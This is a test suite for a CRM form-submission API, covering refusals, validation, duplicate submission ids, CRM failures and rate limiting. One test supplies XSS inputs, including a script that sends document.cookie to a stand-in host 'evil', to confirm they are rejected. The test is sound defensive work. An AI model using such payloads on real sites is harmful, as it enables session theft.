import { randomUUID } from 'node:crypto';
import { createDemoModel, DEMO_ORG_ID, OTHER_ORG_ID } from '../src/app/crm/in-memory/demo-data';
import { DEMO_LINK } from './support/test-app';
import { activityField, contactField, useSubmitSuite } from './support/submit-suite';
import { sharedTestApp } from './support/shared-app';

/** What POST /api/submit refuses, and what it answers when the CRM fails (docs/decisions.md, "CRM failures"). */
describe('POST /api/submit refusals and failures', () => {
  const suite = useSubmitSuite();
  const { service } = suite;

  describe('refusals write nothing', () => {
    it('answers 401 for a wrong checksum', async () => {
      const response = await suite.submit({ Equity_share: 1 }, randomUUID(), { ...DEMO_LINK, cs: 'wrong' });

      expect(response.status).toBe(401);
      expect((await suite.refused(response)).code).toBe('CHECKSUM_INVALID');
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 403 for another organization', async () => {
      const response = await suite.submit({ Equity_share: 1 }, randomUUID(), {
        ...DEMO_LINK,
        orgId: OTHER_ORG_ID,
      });

      expect(response.status).toBe(403);
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 UNKNOWN_FIELDS naming identity, derived and unknown names', async () => {
      const response = await suite.submit({
        Equity_share: 1,
        first_name: 'Mallory',
        current_stage: 'open',
        Stage: 'open',
        Secret_field: 'x',
      });

      expect(response.status).toBe(400);
      expect(await suite.refused(response)).toMatchObject({
        statusCode: 400,
        code: 'UNKNOWN_FIELDS',
        fields: ['first_name', 'current_stage', 'Stage', 'Secret_field'],
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED naming each invalid answer', async () => {
      const response = await suite.submit({
        Equity_share: 100,
        Steering_committee_size: 'nine',
        Date_Opened: '2026-02-30',
        Site_status: '99',
        Certificate_of_Incorporation: { id: -4 },
      });

      expect(response.status).toBe(400);
      expect(await suite.refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Steering_committee_size', 'Date_Opened', 'Site_status', 'Certificate_of_Incorporation'],
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED for a percent above 100', async () => {
      const response = await suite.submit({ Percent_capitalized: 150, Y1_Q1_Margin: 100.5 });

      expect(response.status).toBe(400);
      expect(await suite.refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Percent_capitalized', 'Y1_Q1_Margin'],
        reasons: { Percent_capitalized: 'enter 100 or less.', Y1_Q1_Margin: 'enter 100 or less.' },
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('answers 400 VALIDATION_FAILED with TEXT_HAS_MARKUP for text that a browser would read as markup, and writes nothing', async () => {
      const response = await suite.submit({
        Organizing_notes: 'Met the board.<script>fetch("//evil/"+document.cookie)</script>',
        Name_on_Incorporation_Certificate: 'Acme <img src=x onerror=alert(1)>',
      });

      expect(response.status).toBe(400);
      expect(await suite.refused(response)).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: ['Organizing_notes', 'Name_on_Incorporation_Certificate'],
        problems: {
          Organizing_notes: 'TEXT_HAS_MARKUP',
          Name_on_Incorporation_Certificate: 'TEXT_HAS_MARKUP',
        },
        reasons: { Organizing_notes: expect.stringContaining('web page code') },
      });
      expect(service.emulator.writes()).toEqual([]);
    });

    it('takes text with a "<" that is not markup as written', async () => {
      await suite.accepted({ Organizing_notes: 'Membership grew from < 40 to 52 & we <3 it' });

      expect(suite.createdValues()).toMatchObject({
        [activityField('Organizing_notes')]: 'Membership grew from < 40 to 52 & we <3 it',
      });
    });

    it("refuses a second owner of the co-op reusing another owner's submission id: 409, nothing shared, nothing written", async () => {
      const model = service.emulator.model;
      const [second] = model.api4('Contact', 'create', {
        values: { contact_type: 'Individual', first_name: 'Second', last_name: 'Owner' },
      });
      const secondId = Number(second?.['id']);
      model.api4('Relationship', 'create', {
        values: {
          contact_id_a: secondId,
          contact_id_b: DEMO_ORG_ID,
          'relationship_type_id:name': 'Primary Contact',
        },
      });
      const [issued] = model.api4('Contact', 'getChecksum', { contactId: secondId });
      const submissionId = randomUUID();
      const first = await suite.accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId);

      const reused = await suite.submit(
        { Organizing_notes: 'Second owner: signed the lease.' },
        submissionId,
        {
          contactId: secondId,
          orgId: DEMO_ORG_ID,
          cid: secondId,
          cs: String(issued?.['checksum']),
        },
      );

      expect(reused.status).toBe(409);
      const body = await suite.refused(reused);
      expect(body).toMatchObject({ code: 'SUBMISSION_ID_IN_USE' });
      expect(JSON.stringify(body)).not.toContain(String(first.activityId));
      expect(suite.activityCreates()).toHaveLength(1);
      // The first owner's retry still answers the first result.
      expect(await suite.accepted({ Organizing_notes: 'First owner: met the board.' }, submissionId)).toEqual(
        first,
      );
    });

    it('answers 400 for a missing submissionId or a body that is not JSON', async () => {
      const noId = await service.post('/api/submit', { ...DEMO_LINK, values: {} });
      expect(noId.status).toBe(400);
      expect((await suite.refused(noId)).fields).toEqual(['submissionId']);

      const garbage = await service.post('/api/submit', '{"cid": 102,');
      expect(garbage.status).toBe(400);
      expect(service.emulator.writes()).toEqual([]);
    });
  });

  describe('when the CRM fails', () => {
    it('answers ACTIVITY_NOT_SAVED when the activity create fails, and a retry records it once', async () => {
      const submissionId = randomUUID();
      suite.refuseCreateInNextBatch();

      const response = await suite.submit({ Equity_share: 260, Steering_committee_size: 14 }, submissionId);

      expect(response.status).toBe(502);
      const body = await suite.refused(response);
      expect(body.code).toBe('ACTIVITY_NOT_SAVED');
      expect(body.message).toMatch(/saved.*kept.*submit again/s);
      expect(suite.organization([contactField('Equity_share')])[contactField('Equity_share')]).toBe(260);
      expect(suite.checkInsWith(submissionId)).toEqual([]);

      await suite.accepted({ Equity_share: 260, Steering_committee_size: 14 }, submissionId);
      expect(suite.checkInsWith(submissionId)).toHaveLength(1);
    });

    it('answers ACTIVITY_NOT_SAVED with 504 when the activity create times out', async () => {
      service.emulator.injectFault({
        kind: 'slow',
        entity: 'Activity',
        action: 'create',
        delayMs: 3_000,
        times: 1,
      });

      const response = await suite.submit({ Steering_committee_size: 15 });

      expect(response.status).toBe(504);
      expect((await suite.refused(response)).code).toBe('ACTIVITY_NOT_SAVED');
    });

    it('answers 502 and records nothing when the request with the contact update fails', async () => {
      service.emulator.injectFault({ kind: 'http500', entity: 'Contact', action: 'update' });
      const submissionId = randomUUID();

      const response = await suite.submit({ Equity_share: 270, Steering_committee_size: 16 }, submissionId);

      expect(response.status).toBe(502);
      expect((await suite.refused(response)).code).toBe('ACTIVITY_NOT_SAVED');
      expect(suite.checkInsWith(submissionId)).toEqual([]);
    });
  });
});

describe('POST /api/submit rate limit', () => {
  const service = sharedTestApp(
    {
      emulator: { model: createDemoModel() },
      env: { RATE_LIMIT_SUBMITS_PER_MINUTE: '2' },
    },
    { resetEmulator: false },
  );

  it('answers 429 with Retry-After once the person used up the minute, and writes nothing', async () => {
    const submit = () =>
      service.post('/api/submit', { ...DEMO_LINK, submissionId: randomUUID(), values: {} });
    expect((await submit()).status).toBe(201);
    expect((await submit()).status).toBe(201);
    service.emulator.clearCalls();

    const response = await submit();

    expect(response.status).toBe(429);
    expect(Number(response.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(service.emulator.writes()).toEqual([]);
  });
});
